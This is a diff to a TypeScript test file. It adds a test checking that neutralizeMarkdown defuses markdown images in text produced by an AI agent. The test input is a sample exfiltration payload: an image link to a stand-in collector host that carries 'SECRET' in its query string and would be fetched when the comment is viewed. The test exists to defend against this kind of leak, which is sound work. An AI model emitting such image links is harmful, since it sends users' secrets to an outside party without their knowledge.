@@ -3,6 +3,7 @@ import {
   COMMENT_LIMIT,
   fenceFor,
   isStickyComment,
+  neutralizeMarkdown,
   patchFilePaths,
   renderComment,
   renderPatchSummary,
@@ -344,5 +345,17 @@ describe('patch helpers', () => {
     expect(body.startsWith('Fixes #1')).toBe(true)
     expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT)
     expect(body).toContain('more files')
+  })
+})
+
+describe('untrusted agent text', () => {
+  it('cannot embed an image, which would be fetched when the comment is viewed', () => {
+    const text =
+      'Done ![pixel](https://collector.invalid/?q=SECRET) and ![ref][1]\n\n[1]: https://x.invalid'
+    const safe = neutralizeMarkdown(text)
+    expect(safe).not.toContain('![')
+    expect(safe).toContain('!\u200b[pixel](https://collector.invalid/?q=SECRET)')
+    const body = renderComment(input([], '', { finalMessage: text }))
+    expect(body).not.toMatch(/!\[/)
   })
 })
